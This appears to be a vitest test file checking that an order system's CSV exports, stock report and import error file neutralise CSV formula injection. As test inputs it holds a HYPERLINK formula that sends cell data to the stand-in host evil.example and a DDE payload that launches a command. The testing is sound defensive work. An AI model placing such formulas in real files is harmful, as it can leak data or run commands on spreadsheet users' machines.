import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import type { ImportStatus } from '../../contracts/schemas/imports';
import { SHOPIFY_COLUMNS, exportOrder, shopifyRows } from '../factories/csv';
import { makeOrder, makePartner, makeProduct } from '../factories/data';
import { expectStatus } from '../support/expect';
import { eventually } from '../support/eventually';
import { useTestServer } from '../support/server';

// Formulas written into CSV files (issue 13, finding 3): a customer named =HYPERLINK(...), a product
// named =cmd|..., an order reference @SUM(...) reach the order export, the stock report and an import's
// errors.csv as text (a leading single quote), never as a formula a spreadsheet would run.
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

describe('CSV files neutralise formulas (OWASP CSV injection)', () => {
  const srv = useTestServer();

  it('the order export', async () => {
    const partner = await makePartner(srv.admin, { name: FORMULA });
    const order = await makeOrder(srv.admin, { partnerId: partner.id, note: '+1 note' });
    const res = await srv.admin.post('/api/sale-orders/export', { partnerId: partner.id });
    expectStatus(res, 202);
    const job = await eventually(async () => {
      const j = (await srv.admin.get(`/api/jobs/${encodeURIComponent(res.body.jobId)}`)).body;
      return j.state === 'completed' && j;
    });
    const text = String((await srv.admin.get(job.result.url)).body);
    const row = text.split(/\r?\n/)[1]!;
    expect(row.startsWith(`${order.name},`)).toBe(true);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });

  it('the stock report', async () => {
    const p = await makeProduct(srv.admin, { name: '=cmd|"/C calc"!A0', type: 'storable' });
    const text = String((await srv.admin.get(`/api/stock/report.csv?productId=${p.id}`)).body);
    expect(text).toContain(`"'=cmd|""/C calc""!A0"`);
    expect(text).not.toMatch(/,"?=cmd/);
  });

  it("an import's errors.csv", async () => {
    const rows = shopifyRows(exportOrder(1, ['NOPE'], 1));
    rows[0]![SHOPIFY_COLUMNS.indexOf('Name')] = '@SUM(1+1)*cmd';
    rows[0]![SHOPIFY_COLUMNS.indexOf('Lineitem quantity')] = '-1';
    const up = await srv.admin.upload('/api/imports', { profile: 'shopify' }, [{ name: 'orders.csv', data: stringify([SHOPIFY_COLUMNS, ...rows]) }]);
    expectStatus(up, 202);
    const done = await eventually(async () => {
      const s = (await srv.admin.get(`/api/imports/${up.body.jobId}`)).body as ImportStatus;
      return s.state === 'completed' && s;
    });
    expect(done.rejected).toBe(1);
    const csv = (await srv.admin.download(`/api/imports/${done.jobId}/errors.csv`)).body.toString();
    const line = csv.trim().split('\n')[1]!;
    expect(line).toMatch(/^2,1,'@SUM\(1\+1\)\*cmd,/);
  });
});
